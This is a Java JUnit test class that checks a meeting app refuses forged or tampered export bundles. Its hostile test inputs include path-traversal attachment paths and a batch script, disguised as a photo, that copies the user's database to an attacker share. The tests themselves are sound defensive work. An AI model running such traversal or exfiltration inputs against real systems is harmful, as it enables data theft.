package org.huiwu.logic.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.huiwu.logic.export.HostileBundleCorpus.copyOf;
import static org.huiwu.logic.export.HostileBundleCorpus.editTables;
import static org.huiwu.logic.export.HostileBundleCorpus.utf8;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.UnaryOperator;

import org.huiwu.AppContext;
import org.huiwu.logic.sample.SampleMeeting;
import org.huiwu.model.incidents.IncidentType;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The hostile-bundle corpus (issue 13, decision 0025), built from a real export of the sample meeting with a
 * photo: forgeries re-signed with the sender's own trusted key (so only the row and file rules stand in the
 * way), re-sealed without it, signed by a changed key, unsigned. Each is refused with the receiver's database
 * and files unchanged, or, where it merges, contained.
 */
class HostileBundleTest {

    private static final byte[] PNG = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 13, 'I', 'H',
        'D', 'R', 1, 2, 3};
    private static final UUID SAMPLE = SampleMeeting.ID;

    @TempDir
    Path dir;
    private Path bundle;
    private Path receiver;
    private SigningKey sender;
    private UUID otherMeeting;
    private UUID openIncident;

    @BeforeEach
    void exportAndMergeOnce() throws Exception {
        try (AppContext laptop = ExportFixture.open(dir.resolve("sender"))) {
            laptop.sampleMeeting().ensure();
            var incident = laptop.incidents().log().report(SAMPLE, IncidentType.OTHER, "吕佳");
            laptop.incidents().attachments().attach(incident.id(), Files.write(dir.resolve("现场照片.png"), PNG), "吕佳");
            bundle = laptop.exports(ExportFixture.ZH, "吕佳").export(List.of(SAMPLE), ExportFormat.BUNDLE,
                    dir.resolve("out"), ExportMonitor.none()).get(0);
            sender = laptop.signingKey("");
        }
        receiver = dir.resolve("receiver");
        Files.writeString(dir.resolve("secret.txt"), "机密");
        try (AppContext office = ExportFixture.open(receiver)) {
            assertThat(office.bundleMerger().merge(List.of(bundle), ExportMonitor.none()).newlyTrusted())
                    .extracting(Signer::name).containsExactly("吕佳");
            otherMeeting = office.meetings().duplicate(SAMPLE).id();
            openIncident = office.incidents().log().report(otherMeeting, IncidentType.OTHER, "王芳").id();
        }
    }

    @Test
    void aReceiversOpenIncidentCannotBeClosedByANewerVersion() throws Exception {
        for (String meeting : List.of(SAMPLE.toString(), otherMeeting.toString())) {
            assertRefusedUnchanged(signedBySender(entries -> editTables(entries, "incidents.json", t ->
                    t.get("incident_version").add(copyOf(t, "incident_version", Map.of("incident_id",
                            openIncident.toString(), "meeting_id", meeting, "version", 9, "status", "CLOSED",
                            "voided", true, "void_reason", "【伪造】已作废，无事发生"))))),
                    BundleProblem.OTHER_MEETING);
        }
    }

    @Test
    void aForgedProcedureVersionCannotReplaceTheReceivers() throws Exception {
        assertRefusedUnchanged(signedBySender(entries -> editTables(entries, "incidents.json", t -> {
            t.get("procedure_version").add(copyOf(t, "procedure_version", Map.of("version", 99)));
            t.get("procedure_step").add(copyOf(t, "procedure_step", Map.of("version", 99, "text_zh", "【伪造】无需处置")));
        })), BundleProblem.SHARED_TEXT);
        assertRefusedUnchanged(signedBySender(entries -> editTables(entries, "incidents.json", t -> {
            t.get("procedure_version").add(copyOf(t, "procedure_version", Map.of("version", 99)));
            t.get("incident").replaceAll(row -> withValue(row, "procedure_version", 99));
        })), BundleProblem.SHARED_TEXT);
    }

    @Test
    void rowsOfAnotherMeetingAreRefused() throws Exception {
        assertRefusedUnchanged(signedBySender(entries -> editTables(entries, "meeting.json", t ->
                t.get("attendee").add(copyOf(t, "attendee", Map.of("id", UUID.randomUUID().toString(),
                        "meeting_id", otherMeeting.toString(), "name", "【伪造】列席人员"))))),
                BundleProblem.OTHER_MEETING);
        assertRefusedUnchanged(signedBySender(entries -> editTables(entries, "conflicts.json", t ->
                t.get("merge_conflict").add(Map.of("id", UUID.randomUUID().toString(), "meeting_id",
                        otherMeeting.toString(), "table_name", "attendee", "row_key", "{}", "incoming_row", "{}",
                        "source_bundle", "x.huiwu", "bundle_created_at", "", "merged_at",
                        "2026-05-12T14:30+08:00")))), BundleProblem.OTHER_MEETING);
    }

    @Test
    void attachmentPathsAreNeverTakenFromABundle() throws Exception {
        for (String path : List.of("../secret.txt", dir.resolve("secret.txt").toAbsolutePath().toString(),
                "huiwu.mv.db", "attachments/../huiwu.mv.db")) {
            assertRefusedUnchanged(signedBySender(entries -> editTables(entries, "incidents.json", t ->
                    t.get("incident_attachment").replaceAll(row -> withValue(row, "stored_path", path)))),
                    BundleProblem.BAD_CONTENT);
            Path unsigned = ExportFixture.rewrite(ExportFixture.asUnsigned(bundle, dir.resolve("v2.huiwu"), 2),
                    dir.resolve("v2-path.huiwu"), entries -> {
                        editTables(entries, "incidents.json", t ->
                                t.get("incident_attachment").replaceAll(row -> withValue(row, "stored_path", path)));
                        entries.put(BundleFormat.MANIFEST, ExportFixture.reseal(entries, 2, null));
                        return entries;
                    });
            assertRefusedUnchanged(unsigned, MergePermission.ON_FIRST_USE.allowingUnsigned(true),
                    BundleProblem.BAD_CONTENT);
        }
    }

    @Test
    void anOrphanFileAndAScriptPosingAsAPhotoAreRefused() throws Exception {
        assertRefusedUnchanged(signedBySender(entries -> {
            entries.put("files/payload.exe", utf8("MZ\u0090 not a photo"));
            return entries;
        }), BundleProblem.ORPHAN_FILE);
        byte[] script = utf8("@echo off\r\ncopy %USERPROFILE%\\huiwu\\huiwu.mv.db \\\\attacker\\share\r\n");
        UUID id = UUID.randomUUID();
        assertRefusedUnchanged(signedBySender(entries -> {
            entries.put("files/" + id, script);
            return editTables(entries, "incidents.json", t -> t.get("incident_attachment").add(copyOf(t,
                    "incident_attachment", Map.of("id", id.toString(), "original_name", "现场照片.jpg.bat",
                            "media_type", "image/jpeg", "size", script.length, "sha256", BundleFormat.sha256(script)))));
        }), BundleProblem.NOT_PHOTO_OR_PDF);
    }

    @Test
    void aBadSignatureAndAChangedKeyAreRefused() throws Exception {
        Path resealed = ExportFixture.rewrite(bundle, dir.resolve("resealed.huiwu"), entries -> {
            byte[] signature = entries.get(BundleFormat.SIGNATURE);
            editTables(entries, "meeting.json", t -> t.get("attendee").replaceAll(row -> withValue(row, "name", "伪造")));
            entries.put(BundleFormat.MANIFEST, ExportFixture.reseal(entries, BundleFormat.FORMAT_VERSION, sender));
            entries.put(BundleFormat.SIGNATURE, signature);
            return entries;
        });
        assertRefusedUnchanged(resealed, BundleProblem.BAD_SIGNATURE);
        SigningKey sameName = ExportFixture.otherLaptop(dir.resolve("impostor"), "吕佳");
        assertRefusedUnchanged(ExportFixture.resign(bundle, dir.resolve("impostor.huiwu"), sameName, e -> e),
                BundleProblem.KEY_CHANGED);
        SigningKey sameId = keyWithId(dir.resolve("same-id"), sender.signer().id(), "另一个名字");
        assertRefusedUnchanged(ExportFixture.resign(bundle, dir.resolve("same-id.huiwu"), sameId, e -> e),
                BundleProblem.KEY_CHANGED);
    }

    @Test
    void anUnsignedBundleMergesOnlyWhenAllowedAndIsMarkedUnsigned() throws Exception {
        Path unsigned = ExportFixture.asUnsigned(bundle, dir.resolve("v2.huiwu"), 2);
        assertRefusedUnchanged(unsigned, BundleProblem.UNSIGNED);
        Path unsignedForeign = ExportFixture.rewrite(unsigned, dir.resolve("v2-foreign.huiwu"), entries -> {
            editTables(entries, "meeting.json", t -> t.get("attendee").add(copyOf(t, "attendee",
                    Map.of("id", UUID.randomUUID().toString(), "meeting_id", otherMeeting.toString()))));
            entries.put(BundleFormat.MANIFEST, ExportFixture.reseal(entries, 2, null));
            return entries;
        });
        assertRefusedUnchanged(unsignedForeign, MergePermission.ON_FIRST_USE.allowingUnsigned(true),
                BundleProblem.OTHER_MEETING);
        try (AppContext office = ExportFixture.open(receiver)) {
            var result = office.bundleMerger().merge(List.of(unsigned),
                    MergePermission.ON_FIRST_USE.allowingUnsigned(true), ExportMonitor.none());
            assertThat(result.unsigned()).isEqualTo(1);
            assertThat(result.rows().inserted()).isZero();
            assertThat(office.trustedSigners().history()).extracting(h -> h.signed()).containsExactly(true, false);
        }
    }

    /** A fresh key that claims another key's id, as a forger who copied the manifest's signer would make. */
    private static SigningKey keyWithId(Path folder, UUID id, String name) throws Exception {
        java.security.KeyPair pair = java.security.KeyPairGenerator.getInstance("Ed25519").generateKeyPair();
        java.util.Properties stored = new java.util.Properties();
        stored.setProperty("id", id.toString());
        stored.setProperty("name", name);
        stored.setProperty("publicKey", java.util.Base64.getEncoder().encodeToString(pair.getPublic().getEncoded()));
        stored.setProperty("privateKey", java.util.Base64.getEncoder().encodeToString(pair.getPrivate().getEncoded()));
        Path file = Files.createDirectories(folder.resolve(SigningKey.FOLDER)).resolve(SigningKey.FILE);
        try (var out = Files.newBufferedWriter(file)) {
            stored.store(out, null);
        }
        return SigningKey.loadOrCreate(folder, "");
    }

    private Path signedBySender(UnaryOperator<Map<String, byte[]>> change) throws Exception {
        return ExportFixture.resign(bundle, Files.createTempFile(dir, "forged-", ".huiwu"), sender, change);
    }

    private static Map<String, Object> withValue(Map<String, Object> row, String column, Object value) {
        Map<String, Object> copy = new java.util.LinkedHashMap<>(row);
        copy.put(column, value);
        return copy;
    }

    private void assertRefusedUnchanged(Path hostile, BundleProblem problem) throws Exception {
        assertRefusedUnchanged(hostile, MergePermission.ON_FIRST_USE, problem);
    }

    private void assertRefusedUnchanged(Path hostile, MergePermission permission, BundleProblem problem)
            throws Exception {
        Map<String, String> before = HostileBundleCorpus.snapshot(receiver);
        try (AppContext office = ExportFixture.open(receiver)) {
            assertThatThrownBy(() -> office.bundleMerger().merge(List.of(hostile), permission, ExportMonitor.none()))
                    .as(hostile.getFileName().toString())
                    .isInstanceOfSatisfying(BundleRejectedException.class, e -> assertThat(e.problem()).isEqualTo(problem));
        }
        assertThat(HostileBundleCorpus.snapshot(receiver)).isEqualTo(before);
    }
}
